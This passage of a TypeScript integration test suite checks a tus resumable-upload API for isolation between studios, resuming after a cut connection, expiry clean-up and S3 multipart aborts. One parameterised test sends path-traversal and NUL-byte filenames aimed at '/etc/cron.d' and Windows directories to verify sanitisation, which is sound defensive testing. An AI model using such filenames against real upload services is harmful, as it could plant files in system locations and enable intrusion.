      const before = await snapshot();
      expectContract(await send(tusUrl(id()), 'PATCH', { ...tus(), ...octets, 'Upload-Offset': 0 }, OBJ), status, code);
      const head = await send(tusUrl(id()), 'HEAD', tus());
      expect(head.status).toBe(404);
      expectContract(await send(tusUrl(id()), 'DELETE', tus()), status, code);
      await expectUnchanged(before);
    });

    it('hides an upload from another studio on HEAD and DELETE, and DELETE by the owner removes its staged bytes', async () => {
      const location = await createUpload(OBJ.length);
      const before = await snapshot();
      expect((await send(`${base}${location}`, 'HEAD', tus(other))).status).toBe(404);
      expectContract(await send(`${base}${location}`, 'DELETE', tus(other)), 404, 'UPLOAD_NOT_FOUND');
      await expectUnchanged(before);
      const gone = await send(`${base}${location}`, 'DELETE', tus());
      expect(gone.status).toBe(204);
      const id = location.split('/').pop()!;
      expect(await stagedUploads(h)).not.toContain(id);
      expectContract(await send(`${base}${location}`, 'PATCH', { ...tus(), ...octets, 'Upload-Offset': 0 }, OBJ), 404, 'UPLOAD_NOT_FOUND');
    });

    it('resumes a PATCH cut off mid-body from the offset HEAD reports, and refuses a resume at the wrong offset', async () => {
      const size = 512 * 1024;
      const bytes = await bufferOf(generated(size, 21));
      const location = await createUpload(size, 'cut.obj');
      const url = `${base}${location}`;
      const { hostname, port } = new URL(base);
      // Declares the whole body, sends 40% of it, then drops the socket.
      const requestId = `cut-patch-${randomBytes(6).toString('hex')}`;
      const head = `PATCH ${location} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nAuthorization: Bearer ${s.accessToken}\r\nX-Request-Id: ${requestId}\r\nTus-Resumable: 1.0.0\r\nContent-Type: application/offset+octet-stream\r\nUpload-Offset: 0\r\nContent-Length: ${size}\r\n\r\n`;
      const cut = Math.floor(size * 0.4);
      expect(await rawExchange(base, Buffer.concat([Buffer.from(head), bytes.subarray(0, cut)]), 'destroy', h.reading(requestId))).toBeNull();
      // The staged file grows while the server still writes what it received, so the offset is final only
      // once the app has answered the cut PATCH (tus answers an interrupted PATCH with 204 and the offset).
      expect(await h.answered(requestId)).toEqual({ status: 204 });
      const h1 = await send(url, 'HEAD', tus());
      expect(h1.status).toBe(200);
      const offset = Number(h1.headers['upload-offset']);
      expect(offset).toBeGreaterThan(0);
      expect(offset).toBeLessThanOrEqual(cut);
      const versionsBefore = await h.container.models.AssetVersion.countDocuments({ assetId });

      const wrong = await send(url, 'PATCH', { ...tus(), ...octets, 'Upload-Offset': offset + 1 }, bytes.subarray(offset + 1));
      expectContract(wrong, 409, 'UPLOAD_OFFSET_CONFLICT');
      expect(Number((await send(url, 'HEAD', tus())).headers['upload-offset'])).toBe(offset);

      const done = await send(url, 'PATCH', { ...tus(), ...octets, 'Upload-Offset': offset }, bytes.subarray(offset));
      expect(done.status).toBe(200);
      const { version } = JSON.parse(done.body);
      expect(version.file).toMatchObject({ size, originalName: 'cut.obj' });
      expect(await h.container.models.AssetVersion.countDocuments({ assetId })).toBe(versionsBefore + 1);
      const dl = await h.http.get(`/assets/${assetId}/versions/${version.version}/download`).set(s.auth).buffer(true).parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      });
      expect(Buffer.compare(dl.body as Buffer, bytes)).toBe(0);
      const id = location.split('/').pop()!;
      expect(await stagedUploads(h)).not.toContain(id);
    });

    it.each([
      ['a relative traversal', '../../../../etc/cron.d/evil.obj'],
      ['an absolute path', '/etc/evil.obj'],
      ['a Windows traversal', '..\\..\\Windows\\evil.obj'],
      ['a NUL byte', 'evil.obj\u0000.png'],
    ])('stores a tus upload whose filename has %s under a sanitised name', async (_label, filename) => {
      const location = await createUpload(OBJ.length, filename);
      const done = await send(`${base}${location}`, 'PATCH', { ...tus(), ...octets, 'Upload-Offset': 0 }, OBJ);
      expect(done.status).toBe(200);
      const name = JSON.parse(done.body).version.file.originalName as string;
      expect(name).not.toMatch(/[/\\\0]/);
      expect(name).toBe('evil.obj');
      expectNothingOutsideStorage();
    });

    it.each([
      ['only a path', '../../'],
      ['only dots', '..'],
      ['only a NUL byte', '\u0000evil.obj'],
    ])('refuses a tus upload whose filename is %s once sanitised', async (_label, filename) => {
      const before = await snapshot();
      const res = await send(tusUrl(), 'POST', { ...tus(), 'Upload-Length': OBJ.length, 'Upload-Metadata': meta({ assetId, filename }) });
      expectContract(res, 400, 'UPLOAD_METADATA_REQUIRED');
      await expectUnchanged(before);
    });
  });

  describe('abort mid-way: no object, no version, no consumed number (the next upload is v1)', () => {
    const tusHeaders = (who: Session = s) => ({ ...bearer(who), 'Tus-Resumable': '1.0.0' });
    const octets = { 'Content-Type': 'application/offset+octet-stream' };
    const meta = (id: string, filename = 'mesh.obj') => `assetId ${b64(id)},filename ${b64(filename)}`;

    /** What an abandoned upload must not leave: a version, a consumed number, an object, an open multipart upload, a staged upload. */
    async function expectNothingOf(on: Harness, who: Session, id: string, uploadId?: string) {
      expect(await on.container.models.AssetVersion.countDocuments({ assetId: id })).toBe(0);
      expect(await on.container.models.Asset.findById(id).lean()).toMatchObject({ latestVersion: 0, currentVersion: null });
      expect(await on.container.storage.list(`studios/${who.user.studioId}/assets/${id}/`)).toEqual([]);
      if (on.container.storage instanceof S3StorageProvider) expect(await on.container.storage.inProgress(`studios/${who.user.studioId}/assets/${id}/`)).toEqual([]);
      if (uploadId) expect(await stagedUploads(on)).not.toContain(uploadId);
    }
    async function expectNextIsV1(on: Harness, who: Session, id: string) {
      const next = await on.http.post(`/assets/${id}/versions`).set(who.auth).attach('file', OBJ, 'next.obj');
      expect([next.status, next.body.version?.version]).toEqual([201, 1]);
    }
    const newAsset = async (on: Harness, who: Session, name: string) => (await on.http.post('/assets').set(who.auth).send({ name, type: 'SHOT' }).expect(201)).body.id as string;

    it('tus: DELETE after part of the bytes removes the staged upload (on S3: the open multipart upload and its tail object)', async () => {
      const id = await newAsset(h, s, 'Tus Deleted Mid-way');
      const size = 200 * 1024;
      const bytes = await bufferOf(generated(size, 31));
      const created = await send(`${base}/uploads`, 'POST', { ...tusHeaders(), 'Upload-Length': size, 'Upload-Metadata': meta(id) });
      expect(created.status).toBe(201);
      const location = String(created.headers.location);
      const uploadId = location.split('/').pop()!;
      const half = await send(`${base}${location}`, 'PATCH', { ...tusHeaders(), ...octets, 'Upload-Offset': 0 }, bytes.subarray(0, 80 * 1024));
      expect([half.status, half.headers['upload-offset']]).toEqual([204, String(80 * 1024)]);
      expect(await stagedUploads(h)).toContain(uploadId);

      expect((await send(`${base}${location}`, 'DELETE', tusHeaders())).status).toBe(204);
      await expectNothingOf(h, s, id, uploadId);
      expect((await send(`${base}${location}`, 'HEAD', tusHeaders())).status).toBe(404);
      await expectNextIsV1(h, s, id);
    });

    it('tus: a connection cut mid-PATCH and never resumed is removed by the expiry clean-up', async () => {
      // A deployment of its own: its short expiry would otherwise sweep what the other cases staged.
      const h3 = await startHarness({ ...driverOverrides, MAX_UPLOAD_BYTES: '1mb', TUS_EXPIRATION_HOURS: '0.001' }); // 3.6 s
      try {
        const base3 = await h3.listen();
        const p = await givenStudio(h3);
        const id = await newAsset(h3, p, 'Tus Cut And Expired');
        const size = 300 * 1024;
        const bytes = await bufferOf(generated(size, 32));
        const created = await send(`${base3}/uploads`, 'POST', { ...tusHeaders(p), 'Upload-Length': size, 'Upload-Metadata': meta(id) });
        expect(created.status).toBe(201);
        const location = String(created.headers.location);
        const uploadId = location.split('/').pop()!;
        const { hostname, port } = new URL(base3);
        const requestId = `cut-expire-${randomBytes(6).toString('hex')}`;
        const head = `PATCH ${location} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nAuthorization: Bearer ${p.accessToken}\r\nX-Request-Id: ${requestId}\r\nTus-Resumable: 1.0.0\r\nContent-Type: application/offset+octet-stream\r\nUpload-Offset: 0\r\nContent-Length: ${size}\r\n\r\n`;
        expect(await rawExchange(base3, Buffer.concat([Buffer.from(head), bytes.subarray(0, size * 0.4)]), 'destroy', h3.reading(requestId))).toBeNull();
        expect(await h3.answered(requestId)).toEqual({ status: 204 });
        expect(await stagedUploads(h3)).toEqual([uploadId]);

        await new Promise((r) => setTimeout(r, 4000));
        expect(await h3.container.tus.cleanUpExpired()).toBe(1);
        expect(await stagedUploads(h3)).toEqual([]);
        await expectNothingOf(h3, p, id, uploadId);
        expect([404, 410]).toContain((await send(`${base3}${location}`, 'HEAD', tusHeaders(p))).status);
        await expectNextIsV1(h3, p, id);
      } finally {
        await h3.close();
      }
    });

    // Direct uploads exist on S3 only (local disk answers 409 DIRECT_UPLOADS_UNAVAILABLE).
    if (driver === 's3') {
      it('direct: DELETE of a session after some parts landed aborts the multipart upload', async () => {
        const h4 = await startHarness({ ...driverOverrides, MAX_UPLOAD_BYTES: '64mb' }, {}, h.identity);
        try {
          const PART = 5 * 1024 * 1024;
          const id = await newAsset(h4, s, 'Direct Deleted Mid-way');
          const size = 3 * PART - 99;
          const bytes = Buffer.concat([PNG_HEAD, Buffer.alloc(5000), await bufferOf(generated(size - PNG_HEAD.length - 5000, 33))]);
          const parts = [0, 1, 2].map((i) => bytes.subarray(i * PART, Math.min((i + 1) * PART, size)));
          const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
          const started = await h4.http.post(`/assets/${id}/uploads`).set(s.auth).send({ fileName: 'plate.png', size, sha256: sha(bytes), partSize: PART, partSha256: parts.map(sha) });
          expect(started.status).toBe(201);
          const planned = started.body.parts as Array<{ url: string; checksumSha256: string }>;
          const put = (i: number) => fetch(planned[i]!.url, { method: 'PUT', body: parts[i]!, headers: { 'x-amz-checksum-sha256': planned[i]!.checksumSha256 } });
          expect((await Promise.all([put(0), put(2)])).map((r) => r.status)).toEqual([200, 200]);
          expect(await (h4.container.storage as S3StorageProvider).inProgress(`studios/${s.user.studioId}/assets/${id}/`)).toHaveLength(1);

          await h4.http.delete(`/assets/${id}/uploads/${started.body.id}`).set(s.auth).expect(204);
          await expectNothingOf(h4, s, id);
          const late = await h4.http.post(`/assets/${id}/uploads/${started.body.id}/complete`).set(s.auth);
          expect([late.status, late.body.error?.code]).toEqual([409, 'UPLOAD_SESSION_CLOSED']);
          await expectNextIsV1(h4, s, id);
        } finally {
          await h4.close();
        }
      });
    }
  });
});
